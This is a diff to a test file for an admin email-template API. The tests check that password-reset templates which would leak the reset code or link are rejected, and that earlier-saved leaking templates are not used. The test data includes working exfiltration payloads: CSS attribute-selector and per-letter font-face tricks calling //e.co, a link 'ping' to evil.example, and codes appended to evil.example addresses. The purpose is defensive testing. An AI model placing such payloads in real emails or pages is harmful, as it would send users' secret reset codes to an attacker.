@@ -156,26 +156,75 @@ test.group('Secrets in mails of the system', (group) => {
     assert.deepEqual(ordinary.body().data.warnings, ['code'])
   })
 
-  test('a template that was saved earlier is not used if it carries them away', async ({
-    assert,
+  test('no template carries them away by {0}')
+    .with([
+      [
+        'a style sheet that reads the link',
+        'Reset',
+        '<style>@media all{[href*="AA"]{--A:url(//e.co/AA)}a{background:var(--A,none)}}</style><a href="{{url}}">Reset</a>',
+      ],
+      [
+        'a font for each letter',
+        'Reset',
+        '<style>@media all{@\\66 ont-face{font-family:x;src:url(//e.co/A);unicode-range:U+41}}</style>{{code}}',
+      ],
+      ['the name of the brand', 'Reset', '<p>{{orgName}}{{code}}</p>'],
+      ['an address in brackets', 'Reset', '<p>https://evil.example/({{code}})</p>'],
+      ['the name of a host', 'Reset', '<p>evil.example/{{code}}</p>'],
+      ['an address in several elements', 'Reset', '<p><b>https:/</b>/evil.example/{{code}}</p>'],
+      ['the name of the brand in an element', 'Reset', '<p><b>{{orgName}}</b>{{code}}</p>'],
+      ['reports of a click', 'Reset', '<a href="{{url}}" ping="https://evil.example/">Reset</a>'],
+      ['its subject', '{{orgName}}{{code}}', '<p>{{code}}</p>'],
+      ['an address in its subject', 'evil.example/{{code}}', '<p>Reset</p>'],
+    ] as const)
+    .run(async ({ client }, [, subjectTemplate, bodyTemplate]) => {
+      const { id } = await resetTemplate()
+      const path = `/api/admin/notifications/templates/${id}/locales/en`
+      const saved = await superAdmin(client).put(path, { subjectTemplate, bodyTemplate })
+      const field = subjectTemplate === 'Reset' ? 'bodyTemplate' : 'subjectTemplate'
+      saved.assertProblem(400, 'SECRET_EXPOSED', { field })
+      await requireUntouched()
+    })
+
+  test('a template with plain styles, a picture and the code in words is saved', async ({
+    client,
     cleanup,
   }) => {
-    const { id: organisation, server } = await anOrganisation()
-    const { id: notificationTemplateId } = await resetTemplate()
-    const version = await TemplateVersion.findByOrFail({ notificationTemplateId, locale: 'en' })
-    const { inlinedBody } = version
-    cleanup(async () => {
-      await version.merge({ inlinedBody }).save()
-      await server.stop()
+    const { id } = await resetTemplate()
+    const version = await TemplateVersion.findByOrFail({ notificationTemplateId: id, locale: 'en' })
+    const before = { ...version.$attributes }
+    cleanup(async () => void (await version.merge(before).save()))
+    const path = `/api/admin/notifications/templates/${id}/locales/en`
+    const saved = await superAdmin(client).put(path, {
+      subjectTemplate: '{{orgName}}: {{code}}',
+      bodyTemplate: `<style>p{color:#333}@media (max-width:600px){p{font-size:18px}}</style>
+        <img src="https://pictures.example/logo.png"><p>"({{code}})", Code: {{code}}, <b>{{code}}</b></p>
+        <p>{{code}}.</p><a href="{{url}}" style="color:{{brandColor}}">Reset</a>`,
     })
-    await version.merge({ inlinedBody: leaking }).save()
-    const email = uniqueEmail()
-    const answer = await hook(addressed(passwordResetMail(), organisation, email))
-    assert.equal(answer.templateSource, 'idp')
-    const [mail] = server.mailsTo(email)
-    assert.exists(mail)
-    assert.notInclude(JSON.stringify(mail), 'evil.example')
+    saved.assertStatus(200)
   })
+
+  test('a template that was saved earlier is not used if its {$self} carries them away')
+    .with(['inlinedBody', 'subjectTemplate'] as const)
+    .run(async ({ assert, cleanup }, field) => {
+      const { id: organisation, server } = await anOrganisation()
+      const { id: notificationTemplateId } = await resetTemplate()
+      const version = await TemplateVersion.findByOrFail({ notificationTemplateId, locale: 'en' })
+      const before = version[field]
+      cleanup(async () => {
+        await version.merge({ [field]: before }).save()
+        await server.stop()
+      })
+      await version
+        .merge({ [field]: field === 'inlinedBody' ? leaking : '{{orgName}}{{code}}' })
+        .save()
+      const email = uniqueEmail()
+      const answer = await hook(addressed(passwordResetMail(), organisation, email))
+      assert.equal(answer.templateSource, 'idp')
+      const [mail] = server.mailsTo(email)
+      assert.exists(mail)
+      assert.notInclude(JSON.stringify(mail), 'evil.example')
+    })
 })
 
 test.group('Broadcasts of types of the system', () => {
